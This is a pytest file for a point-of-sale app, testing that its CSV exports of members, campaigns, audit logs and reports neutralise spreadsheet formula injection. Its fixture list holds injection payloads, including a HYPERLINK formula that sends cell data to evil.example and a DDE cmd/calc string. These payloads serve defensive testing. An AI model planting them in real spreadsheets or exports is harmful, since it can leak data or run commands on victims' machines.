"""CSV formula injection: text a spreadsheet would run as a formula is exported as text, in every
CSV the program writes (members, campaign holders, the audit log, reports); plain numbers stay."""

from __future__ import annotations

import csv
from datetime import date

import pytest

from pos.services import csv_safe
from pos.services.campaigns import campaign as campaigns
from pos.services.coupons.issue import parse_spec
from pos.services.members import export
from pos.services.members import lookup as members
from pos.services.members.listing import MemberFilter
from pos.services.reports.summary import Report, write_report_csv
from pos.services.segments import rfm
from pos.services.staff import audit, audit_log
from pos.services.staff.accounts import create_staff

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1"]


def rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def runs_as_formula(text: str) -> bool:
    return text.startswith(csv_safe.FORMULA_STARTS)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value):
    assert csv_safe.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+8613800138000", "12", -5, 3.5, None, "", "Zhang 张", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_safe.cell(value) == value


@pytest.fixture
def hostile_members(ctx):
    return [members.enrol(ctx, f"1380013{i:04d}", name=name, consent=True).member.member_id for i, name in enumerate(HOSTILE)]


def test_member_export(ctx, manager, hostile_members, tmp_path):
    path = tmp_path / "members.csv"
    export.export_members(ctx, manager.id, str(path), MemberFilter(), full_phone=True)
    names = [row[2] for row in rows(path)[1:]]
    assert sorted(names) == sorted("'" + name.strip() for name in HOSTILE)     # enrolment strips names
    assert all(row[1].startswith("+86") for row in rows(path)[1:])        # a phone number is not escaped


def test_campaign_export(ctx, manager, hostile_members, tmp_path):
    rfm.compute_segments(ctx)
    segment = next(name for name, size in rfm.compute_segments(ctx).sizes.items() if size == len(HOSTILE))
    result = campaigns.issue_campaign(ctx, manager.id, "=cmd", campaigns.Audience(segment=segment),
                                      parse_spec("cash", "5"))
    path = tmp_path / "campaign.csv"
    campaigns.export_campaign(ctx, manager.id, result.campaign_id, str(path))
    names = [row[3] for row in rows(path)[1:]]
    assert sorted(names) == sorted("'" + name.strip() for name in HOSTILE)


def test_audit_export(ctx, manager, tmp_path):
    create_staff(ctx, "-1+1", "Staff", "cashier", "4321")
    with ctx.write() as session:
        audit.record(session, ctx.clock(), "note", target="=HYPERLINK(\"http://evil\")")
    path = tmp_path / "audit.csv"
    audit_log.export_audit(ctx, manager.id, str(path))
    cells = [cell for row in rows(path)[1:] for cell in row]
    assert "'-1+1" in cells and "'=HYPERLINK(\"http://evil\")" in cells
    assert not any(runs_as_formula(cell) for cell in cells)


def test_report_csv(tmp_path):
    report = Report("x", "X", ("day", "name", "amount"), ((date(2026, 6, 1), "=1+1", "-12.50"),), "none")
    path = write_report_csv(report, str(tmp_path / "report.csv"))
    assert rows(path)[1] == ["2026-06-01", "'=1+1", "-12.50"]
